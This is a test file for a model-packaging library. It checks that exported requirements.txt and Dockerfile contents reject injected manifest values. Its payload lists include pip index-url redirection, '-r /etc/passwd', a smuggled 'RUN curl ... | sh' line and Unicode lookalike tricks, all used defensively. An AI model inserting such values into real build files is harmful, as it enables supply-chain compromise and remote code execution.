"""Manifest text reaches requirements.txt and the Dockerfile only if it matches its grammar."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import pytest

from modelyard.errors import InvalidInput
from modelyard.packaging import manifest, package
from modelyard.packaging.export import export
from tests.packaging.forgery import edit

INJECTED_DEPENDENCIES = [
    {"--index-url http://127.0.0.1:9/simple": "1.0"},
    {"--index-url=http://127.0.0.1:9/simple": "1.0"},
    {"-r /etc/passwd": "1.0"},
    {"numpy\n--index-url http://127.0.0.1:9/simple": "1.0"},
    {"numpy": "1.0\n--index-url http://127.0.0.1:9/simple"},
    {"numpy": "1.0 --extra-index-url http://127.0.0.1:9/simple"},
    {"numpy": "1.0\n"},  # a trailing newline: "$" would have let it through
    {"numpy": ">=1.0"},
    {"numpy": "1.0; python_version > '3'"},
    {"numpy @ http://127.0.0.1:9/numpy.whl": "1.0"},
    {"nump\u212a": "1.0"},  # KELVIN SIGN: matches "k" under a Unicode IGNORECASE
    {"-numpy": "1.0"},
    {"numpy": ""},
]
INJECTED_PYTHON = [
    "3.11\nRUN curl http://127.0.0.1:9/x | sh",
    "3.11-slim AS builder\nRUN id\nFROM python:3.11",
    "3.11\n",
    "3.11.7rc1",
    "3",
    "latest",
    "3.\u0661\u0661",  # ARABIC-INDIC digits are \\d, not [0-9]
]


def _package(folder: Path) -> manifest.Manifest:
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 3))
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    return package.save(model, folder, input_example=x[:2])


@pytest.mark.parametrize("dependencies", INJECTED_DEPENDENCIES)
def test_export_refuses_dependencies_outside_the_grammar(
    tmp_path: Path, dependencies: dict[str, str]
) -> None:
    _package(tmp_path / "m")
    edit(tmp_path / "m", dependencies=dependencies)
    with pytest.raises(InvalidInput, match="PEP") as info:
        export(tmp_path / "m", tmp_path / "out" / "bundle")
    assert info.value.details["field"] == "dependencies"
    assert not (tmp_path / "out").exists()  # refused before any file or folder is written


@pytest.mark.parametrize("python", INJECTED_PYTHON)
def test_export_refuses_a_python_version_outside_the_grammar(tmp_path: Path, python: str) -> None:
    _package(tmp_path / "m")
    edit(tmp_path / "m", python_version=python)
    with pytest.raises(InvalidInput, match="python_version") as info:
        export(tmp_path / "m", tmp_path / "out")
    assert info.value.details["field"] == "python_version"
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("dependencies", "python"),
    [
        ({"numpy": "2.1.0", "scikit-learn": "1.5.0rc1"}, "3.11"),
        ({"torch": "2.3.0+cpu", "a.b-c_d": "1!2.0.post1.dev3"}, "3.12.1"),
        ({"Django": "v5.0-1", "x": "1.0a1"}, "3.13.0"),
    ],
)
def test_export_writes_valid_names_versions_and_python(
    tmp_path: Path, dependencies: dict[str, str], python: str
) -> None:
    _package(tmp_path / "m")
    edit(tmp_path / "m", dependencies=dependencies, python_version=python)
    bundle = export(tmp_path / "m", tmp_path / "bundle")
    lines = (bundle / "requirements.txt").read_text().splitlines()
    assert lines == sorted(f"{d}=={v}" for d, v in dependencies.items())
    minor = ".".join(python.split(".")[:2])
    assert (bundle / "Dockerfile").read_text().splitlines()[0] == f"FROM python:{minor}-slim"


def test_save_records_a_clean_python_version_and_refuses_bad_dependencies(
    tmp_path: Path,
) -> None:
    saved = _package(tmp_path / "m")
    assert manifest._PYTHON.fullmatch(saved.python_version)
    from sklearn.linear_model import LogisticRegression

    x = np.eye(3)
    bad: dict[str, Any] = {"extra_dependencies": {"--index-url http://127.0.0.1:9/": "1"}}
    with pytest.raises(InvalidInput, match="PEP 508"):
        package.save(LogisticRegression().fit(x, [0, 1, 1]), tmp_path / "n", **bad)
    assert not (tmp_path / "n" / manifest.MANIFEST).exists()
